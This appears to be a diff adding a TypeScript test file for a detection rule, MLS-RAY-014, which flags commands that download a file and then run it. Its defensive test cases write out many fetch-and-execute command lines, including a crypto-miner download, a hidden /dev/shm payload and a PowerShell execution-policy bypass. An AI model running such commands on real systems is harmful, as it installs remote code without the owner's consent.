@@ -1,0 +1,119 @@
+/**
+ * `attrs.exec.fetchedThenRun` (exec-fetched-run.ts) and the rule that reads it, MLS-RAY-014 (MITRE
+ * T1105 then T1059): a file downloaded and run in the same exec. The reading over canonical
+ * commands, then through the shipped rule set and the real engine: every download-then-run
+ * spelling alerts; a download only stored, read as data or run as inline code does not.
+ */
+import { describe, expect, it } from 'vitest';
+import { execEvent, execRuleIds } from './exec-events.test-support.js';
+import { canonicalExecValue } from './exec-canonical.js';
+import { fetchedThenRun, MAX_FETCHED } from './exec-fetched-run.js';
+import { enterEvent, leaveEvent } from './event-scope.js';
+import { eventFieldResolver } from './event-fields.js';
+import { mulberry32 } from '../../core/mulberry32.js';
+
+const RULE = 'MLS-RAY-014';
+const fetched = (script: string): readonly string[] => canonicalExecValue(['sh', '-c', script])!.fetchedThenRun;
+
+describe('fetchedThenRun over a reading', () => {
+  it('names the fetch tool whose file a later command runs, every spelling of the output and of the run', () => {
+    const cases: Array<[string, string[]]> = [
+      ['curl -sSLo /tmp/x http://203.0.113.5/x && chmod +x /tmp/x && /tmp/x', ['curl']],
+      ['curl -o/tmp/y http://h/y; sudo bash /tmp/y', ['curl']],
+      ['curl --output=/tmp/y http://h/y; sh /tmp/y', ['curl']],
+      ['curl --output /tmp/y http://h/y; . /tmp/y', ['curl']],
+      ['curl -O http://h/d/run.sh?x=1; bash -x run.sh', ['curl']],
+      ['curl --output-dir /opt -O http://h/d/run.sh; /opt/run.sh', ['curl']],
+      ['curl -H "X-A: b" -fsSL -o ./k http://h/k && ./k get pods', ['curl']],
+      ['wget -q http://203.0.113.5/m/xmrig -P /tmp; /tmp/xmrig -o pool:3333', ['wget']],
+      ['wget http://h/a.py && python3 -u a.py', ['wget']],
+      ['wget -O /tmp/i.pl http://h/x; perl -w /tmp/i.pl', ['wget']],
+      ['wget --output-document=/dev/shm/.x http://h/x; nohup /dev/shm/.x >/dev/null 2>&1 &', ['wget']],
+      ['aria2c -d /tmp -o m http://h/m; timeout 60 /tmp/m', ['aria2c']],
+      ['curl -o /tmp/a.js http://h/a.js; node --require dotenv/config /tmp/a.js', ['curl']],
+      ['curl -o /tmp/a.ps1 http://h/a.ps1; pwsh -ExecutionPolicy Bypass -File /tmp/a.ps1', ['curl']],
+      ['curl -o a http://h/a; wget http://h/b.sh; sh b.sh; ./a', ['wget', 'curl']],
+    ];
+    for (const [script, tools] of cases) expect(fetched(script), script).toEqual(tools);
+  });
+
+  it('leaves downloads that are stored, read as data, run as inline code or not written to a file', () => {
+    for (const script of [
+      'curl -o /tmp/model.bin http://h/m.bin && python3 train.py /tmp/model.bin',
+      'curl -o a.py http://h/a.py && python3 -c "import a"',
+      'curl -o /tmp/x http://h/x; sh -c "ls /tmp/x"',
+      'curl -s http://h/x; sh /tmp/x',
+      'wget -O - http://h/x > /tmp/x; cat /tmp/x',
+      'wget -qO- http://h/ | head',
+      'curl -o /tmp/x http://h/x; awk "{print}" /tmp/x',
+      'sh /tmp/x; curl -o /tmp/x http://h/x',
+      'curl -o /tmp/a http://h/a; /tmp/b',
+      'curl -o /tmp/a.ps1 http://h/a.ps1; pwsh -Command "Get-Content /tmp/a.ps1"',
+    ]) {
+      expect(fetched(script), script).toEqual([]);
+    }
+  });
+
+  it("reads an interpreter's download and a PowerShell -OutFile as downloads", () => {
+    const py = canonicalExecValue(['python3', '-c', 'import urllib.request as u, os; u.urlretrieve("http://h/p", "/tmp/p"); os.system("sh /tmp/p")'])!;
+    expect(py.fetchedThenRun).toEqual(['curl']);
+    const ps = canonicalExecValue(['pwsh', '-c', 'Invoke-WebRequest -Uri http://h/a.ps1 -OutFile a.ps1; ./a.ps1'])!;
+    expect(ps.fetchedThenRun).toEqual(['Invoke-WebRequest']);
+    expect(fetchedThenRun([['iwr', 'http://h/t.exe', '-OutF:t.exe'], ['t.exe']])).toEqual(['iwr']);
+  });
+
+  it('never throws and stays bounded on random words', () => {
+    const r = mulberry32(14);
+    const WORDS = ['curl', 'wget', 'aria2c', 'iwr', 'sh', 'bash', '.', 'source', 'python3', 'pwsh', 'sudo', 'nohup', '-o', '-O', '-P', '-d', '-OutFile', '--output', '--output=', '-c', '-e', '--', '-', '/tmp/x', './x', 'x', 'http://h/x', 'h/x/', '', '#n', '-oF'];
+    for (let n = 0; n < 3000; n++) {
+      const cmds: string[][] = [];
+      for (let c = Math.floor(r() * 6); c > 0; c--) cmds.push(Array.from({ length: Math.floor(r() * 7) }, () => WORDS[Math.floor(r() * WORDS.length)]!));
+      const got = fetchedThenRun(cmds);
+      expect(got.length).toBeLessThanOrEqual(MAX_FETCHED);
+      expect(new Set(got).size).toBe(got.length);
+    }
+    const many = Array.from({ length: 200 }, (_, i) => ['curl', '-o', `/tmp/f${i}`, 'http://h/f']);
+    expect(fetchedThenRun([...many, ['/tmp/f199']])).toEqual([]); // past MAX_FETCHED files, not followed
+    expect(fetchedThenRun([...many, ['/tmp/f0']])).toEqual(['curl']);
+  });
+});
+
+describe(`${RULE}: a file downloaded and run in the exec`, () => {
+  it('alerts on each spelling through the shipped rules', () => {
+    for (const command of [
+      ['sh', '-c', 'curl -sSLo /tmp/x http://203.0.113.5/x && chmod +x /tmp/x && nohup /tmp/x &'],
+      ['bash', '-c', 'cd /tmp; wget -q http://203.0.113.5/xmrig; chmod 755 xmrig; ./xmrig --donate-level 1'],
+      ['python3', '-c', 'import urllib.request as u, os; u.urlretrieve("http://203.0.113.5/p", "/tmp/p"); os.system("sh /tmp/p")'],
+      ['pwsh', '-c', 'Invoke-WebRequest -Uri http://203.0.113.5/a.ps1 -OutFile a.ps1; ./a.ps1'],
+      'curl -fsSL -o /tmp/r.sh http://203.0.113.5/r.sh && sudo bash /tmp/r.sh',
+    ]) {
+      expect(execRuleIds(command), JSON.stringify(command)).toContain(RULE);
+    }
+  });
+
+  it('does not alert on a download that is only stored or read, nor on everyday commands', () => {
+    for (const command of [
+      ['sh', '-c', 'curl -o /data/ckpt.pt https://storage.internal/ckpt.pt && python3 train.py --resume /data/ckpt.pt'],
+      ['sh', '-c', 'wget -q https://h/labels.csv -O /tmp/labels.csv && wc -l /tmp/labels.csv'],
+      ['nvidia-smi'],
+      ['sh', '-c', 'ls -la /tmp && cat /tmp/x'],
+    ]) {
+      expect(execRuleIds(command), JSON.stringify(command)).not.toContain(RULE);
+    }
+  });
+
+  it('reads the field from attrs as written when the event has no exec command', () => {
+    const lookup = eventFieldResolver.field('attrs.exec.fetchedThenRun');
+    const get = 'get' in lookup ? lookup.get : (): unknown => undefined;
+    const withCommand = execEvent(['sh', '-c', 'curl -o /tmp/x http://h/x; /tmp/x']);
+    const without = { ...execEvent(['id']), attrs: { subresource: 'exec', exec: { fetchedThenRun: ['written'] } } };
+    for (const [e, want] of [[withCommand, ['curl']], [without, ['written']]] as const) {
+      enterEvent(e);
+      try {
+        expect(get(e)).toEqual(want);
+      } finally {
+        leaveEvent();
+      }
+    }
+  });
+});
